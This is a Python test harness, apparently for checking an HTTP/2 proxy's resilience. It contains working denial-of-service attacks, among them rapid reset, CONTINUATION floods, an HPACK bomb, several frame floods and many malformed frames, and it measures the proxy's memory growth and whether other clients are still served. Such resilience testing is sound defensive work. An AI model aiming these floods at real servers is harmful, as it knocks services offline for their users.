"""HTTP/2 clients that mean harm, and two that do not, frame by frame (hyperframe).

    hostile_h2.py attack ADDRESS PID  runs every attack; prints as JSON how each ended, whether another connection was
                                      served meanwhile, and by how many KiB the proxy (PID) had grown at its end
    hostile_h2.py tiny ADDRESS        sends a body as 100,000 DATA frames of one byte; prints the status
"""

import json
import select
import socket
import struct
import sys
import time
from concurrent.futures import ThreadPoolExecutor

import h2.connection
import h2.events
import hpack
from hyperframe import frame as frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# A peer that says nothing for so long keeps what it has: longer than Envoy's `delayed_close_timeout` of 1 s.
QUIET = 1.5
# A peer that takes nothing for so long has stopped reading.
STALLED = 0.5
FLOOD_BYTES = 16 << 20
TINY_FRAMES = 100_000
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED",
         6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def request(method="POST", path="/", fields=()):
    """A header block without entries in the dynamic table, so that it can be repeated."""
    head = [(":method", method), (":scheme", "http"), (":authority", "a"), (":path", path), *fields]
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in head], huffman=False)


def raw(kind, flags, stream, payload=b""):
    """A frame that hyperframe would not let anyone write."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(stream, block, *flags):
    return frames.HeadersFrame(stream, data=block, flags=["END_HEADERS", *flags]).serialize()


def settings(**values):
    names = {"window": frames.SettingsFrame.INITIAL_WINDOW_SIZE, "table": frames.SettingsFrame.HEADER_TABLE_SIZE}
    return frames.SettingsFrame(0, settings={names[name]: value for name, value in values.items()}).serialize()


class Attacker:
    """A connection that reads frames as they come, or nothing at all."""

    def __init__(self, address, reads=True):
        self.reads = reads
        self.socket = socket.create_connection(address)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self.received = bytearray()
        self.closed = False
        self.stopped = False
        self.events = []

    def send(self, data):
        """Sends all of it; False when the peer closed or stopped reading before."""
        left = memoryview(data)
        while left and not self.closed:
            readable, writable, _ = select.select([self.socket] if self.reads else [], [self.socket], [], STALLED)
            if readable:
                self.read()
            elif not writable:
                self.stopped = True
                return False
            if writable:
                try:
                    left = left[self.socket.send(left[:1 << 16]):]
                except BlockingIOError:
                    pass
                except OSError:
                    self.closed = not self.reads
                    return self.drain(QUIET) and False
        return not self.closed

    def flood(self, piece, most=FLOOD_BYTES):
        sent = 0
        while sent < most and self.send(piece):
            sent += len(piece)

    def read(self):
        try:
            data = self.socket.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        self.closed = not data
        self.received += data
        while len(self.received) >= 9:
            frame, length = frames.Frame.parse_frame_header(memoryview(self.received[:9]))
            if len(self.received) < 9 + length:
                break
            frame.parse_body(memoryview(self.received[9:9 + length]))
            del self.received[:9 + length]
            self.events.append(frame)

    def drain(self, quiet):
        """Reads until the peer closes or is quiet; whether it is still open."""
        while not self.closed and select.select([self.socket], [], [], quiet)[0]:
            self.read()
        return not self.closed

    def outcome(self):
        """How the peer took it. The end of the connection counts before that of a stream, that before an answer."""
        if not self.reads and not self.closed:
            return "stopped" if self.stopped else "taken"
        goaway = [frame.error_code for frame in self.events if isinstance(frame, frames.GoAwayFrame)]
        resets = {frame.error_code for frame in self.events if isinstance(frame, frames.RstStreamFrame)}
        statuses = set()
        decoder = hpack.Decoder()
        for frame in self.events:
            if isinstance(frame, frames.HeadersFrame):
                statuses |= {value for name, value in decoder.decode(frame.data) if name == ":status"}
        if any(goaway):
            return "connection: " + CODES[next(filter(None, goaway))]
        if self.closed:
            return "connection: closed"
        if resets:
            return "stream: " + ", ".join(sorted(CODES[code] for code in resets))
        return "answered " + ", ".join(sorted(statuses)) if statuses else "open"


class Bystander:
    """A client that behaves, on one connection through everything."""

    def __init__(self, address):
        self.socket = socket.create_connection(address, timeout=10)
        self.connection = h2.connection.H2Connection()
        self.connection.initiate_connection()

    def get(self):
        return self.exchange([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")], b"", 0)

    def exchange(self, head, piece, count):
        """Sends a request with a body of so many pieces; gives the status, or what came instead."""
        stream = self.connection.get_next_available_stream_id()
        self.connection.send_headers(stream, head, end_stream=count == 0)
        status = None
        while True:
            while count and self.connection.local_flow_control_window(stream) >= len(piece):
                self.connection.send_data(stream, piece, end_stream=count == 1)
                count -= 1
            self.socket.sendall(self.connection.data_to_send())
            data = self.socket.recv(1 << 16)
            if not data:
                return "closed"
            for event in self.connection.receive_data(data):
                if isinstance(event, h2.events.ResponseReceived):
                    status = dict(event.headers)[b":status"].decode()
                elif isinstance(event, h2.events.StreamEnded):
                    return status
                elif isinstance(event, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return f"{type(event).__name__} {event.error_code}"


def rapid_reset(client):
    block = request()
    for first in range(1, 10_000, 200):
        wave = [headers(n, block) + raw(3, 0, n, b"\0\0\0\x08") for n in range(first, first + 200, 2)]
        if not client.send(b"".join(wave)):
            return


def continuation_flood(client):
    client.send(raw(1, 0, 1, request()))
    client.flood(raw(9, 0, 1, b"\0\x01a\x01b" * 1000) * 10)


def empty_continuation_flood(client):
    client.send(raw(1, 0, 1, request()))
    client.flood(raw(9, 0, 1) * 1000)


def flood_of(piece, opening=b"", most=FLOOD_BYTES):
    def attack(client):
        client.send(opening)
        client.flood(piece * (1 + (32 << 10) // len(piece)), most)
    return attack


def sends(*pieces):
    def attack(client):
        for piece in pieces:
            client.send(piece)
    return attack


def data_after_answer(client):
    client.send(headers(1, request("GET"), "END_STREAM"))
    client.drain(0.5)
    client.events.clear()
    client.send(raw(0, 0, 1, b"late"))


def hpack_bomb(client):
    """One large entry in the dynamic table, then a block of nothing but references to it."""
    entry = b"\x40\x01a" + b"\x7f\xa1\x1e" + b"x" * 4000
    client.send(headers(1, request() + entry, "END_STREAM"))
    client.send(headers(3, request() + b"\xbe" * 16_000, "END_STREAM"))


def table_resizes(client):
    """Size updates belong before the first field, and never above what was offered."""
    client.send(headers(1, b"\x3f\xff\xff\xff\x7f" + request(), "END_STREAM"))


def many_entries(client):
    """Offers an endless table for the answers, and fills the one for requests for as long as it may."""
    for n in range(1, 2001, 2):
        entries = b"".join(b"\x40\x04%04d\x7f\x00" % (10 * n % 10_000 + i) + b"v" * 127 for i in range(10))
        if not client.send(headers(n, request("GET") + entries, "END_STREAM")):
            return


def reader_of(streams, size):
    """Asks for so many large bodies at once."""
    def attack(client):
        client.send(raw(8, 0, 0, b"\x7f\0\0\0"))
        block = request("GET", "/", [("x-size", str(size))])
        client.send(b"".join(headers(2 * n + 1, block, "END_STREAM") for n in range(streams)))
    return attack


OPEN = headers(1, request())
PING = raw(6, 0, 0, b"12345678")
SETTINGS = raw(4, 0, 0, b"\0\x04\0\x01\0\0")
PRIORITY = raw(2, 0, 1, b"\0\0\0\x03\x01")
# They do not read their sockets.
DEAF = {"PING flood, answers not read", "SETTINGS flood, answers not read", "reader that does not read"}
GREETINGS = {
    "reader without a window": settings(window=0),
    "reader that does not read": settings(window=1 << 30),
    "HPACK tables filled again and again": settings(table=(1 << 32) - 1),
    "PING before SETTINGS": b"",
}
# One after the other: each of them offers more memory than it may get.
FLOODS = {
    "rapid reset": rapid_reset,
    "CONTINUATION flood": continuation_flood,
    "empty CONTINUATION flood": empty_continuation_flood,
    "PING flood": flood_of(PING, most=1 << 20),
    "PING flood, answers not read": flood_of(PING, most=64 << 20),
    "SETTINGS flood, answers not read": flood_of(SETTINGS, most=64 << 20),
    "PRIORITY flood": flood_of(PRIORITY, OPEN),
    "WINDOW_UPDATE flood": flood_of(raw(8, 0, 1, b"\0\0\0\x01"), OPEN),
    "empty DATA flood": flood_of(raw(0, 0, 1), OPEN),
    "padding flood": flood_of(raw(0, 8, 1, b"\x03\0\0\0"), OPEN),
    "unknown frames": flood_of(raw(0x42, 0, 1, b"x"), OPEN, most=1 << 20),
    "HPACK bomb": hpack_bomb,
    "HPACK tables filled again and again": many_entries,
    "reader without a window": reader_of(100, 4 << 20),
    "reader that does not read": reader_of(200, 1 << 20),
}
# All at once.
MISTAKES = {
    "unfinished HEADERS": sends(raw(1, 0, 1, request())),
    "zero WINDOW_UPDATE of a stream": sends(OPEN, raw(8, 0, 1, b"\0\0\0\0")),
    "zero WINDOW_UPDATE of the connection": sends(raw(8, 0, 0, b"\0\0\0\0")),
    "window overflow of a stream": sends(OPEN, raw(8, 0, 1, b"\x7f\xff\xff\xff")),
    "window overflow of the connection": sends(raw(8, 0, 0, b"\x7f\xff\xff\xff")),
    "RST_STREAM on an idle stream": sends(raw(3, 0, 1, b"\0\0\0\x08")),
    "oversized DATA": sends(OPEN, raw(0, 0, 1, b"x" * 20_000)),
    "oversized HEADERS": sends(raw(1, 4, 1, b"\x83" * 20_000)),
    "short RST_STREAM": sends(OPEN, raw(3, 0, 1, b"\0\0\x08")),
    "long PING": sends(raw(6, 0, 0, b"123456789")),
    "odd SETTINGS": sends(raw(4, 0, 0, b"\0\x04\0")),
    "frame limit of 1 in SETTINGS": sends(raw(4, 0, 0, b"\0\x05\0\0\0\x01")),
    "more padding than DATA": sends(OPEN, raw(0, 8, 1, b"\x09abc")),
    "more padding than HEADERS": sends(raw(1, 12, 1, b"\xff\x83")),
    "DATA after END_STREAM": sends(headers(1, request("POST", "/", [("x-delay-ms", "3000")]), "END_STREAM"),
                                   raw(0, 0, 1, b"late")),
    "DATA after the answer": data_after_answer,
    "DATA on an idle stream": sends(raw(0, 0, 1, b"early")),
    "DATA on stream 0": sends(raw(0, 0, 0, b"nobody's")),
    "HEADERS on an even stream": sends(headers(2, request())),
    "falling stream numbers": sends(headers(5, request()), headers(3, request())),
    "PING within a header block": sends(raw(1, 0, 1, request()), PING),
    "CONTINUATION of nothing": sends(raw(9, 4, 1, request())),
    "PUSH_PROMISE by a client": sends(OPEN, raw(5, 4, 1, b"\0\0\0\x02" + request())),
    "a stream that depends on itself": sends(OPEN, raw(2, 0, 1, b"\0\0\0\x01\x01")),
    "HPACK index out of range": sends(headers(1, b"\xff\xff\xff\x7f")),
    "HPACK table above the offer": table_resizes,
    "PING before SETTINGS": sends(PING),
}


def resident_kib(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:"))


def settled_kib(pid):
    """Its size once it does not grow any more."""
    last = resident_kib(pid)
    calm = 0
    while calm < 5:
        time.sleep(0.05)
        now = resident_kib(pid)
        calm = 0 if now > last else calm + 1
        last = now
    return last


def run(attack, name, address):
    client = Attacker(address, reads=name not in DEAF)
    client.send(PREFACE + GREETINGS.get(name, settings()))
    attack(client)
    if client.reads:
        client.drain(QUIET)
    return client


def attack(address, pid):
    bystander = Bystander(address)
    bystander.get()
    before = resident_kib(pid)
    results = {}

    def note(name, client, kib):
        served = [bystander.get(), Bystander(address).get()]
        results[name] = {"outcome": client.outcome(), "others": served, "grown": max(0, kib(pid) - before)}
        # Until here it was held open, if the proxy let it be.
        client.socket.close()

    with ThreadPoolExecutor(len(MISTAKES)) as pool:
        running = {name: pool.submit(run, mistake, name, address) for name, mistake in MISTAKES.items()}
        for name, client in running.items():
            note(name, client.result(), resident_kib)
    for name, flood in FLOODS.items():
        note(name, run(flood, name, address), settled_kib)
    return results


def tiny(address):
    head = [(":method", "POST"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
    return Bystander(address).exchange(head, b"x", TINY_FRAMES)


def main():
    host, port = sys.argv[2].rsplit(":", 1)
    address = (host, int(port))
    result = attack(address, sys.argv[3]) if sys.argv[1] == "attack" else tiny(address)
    print(json.dumps(result))


main()
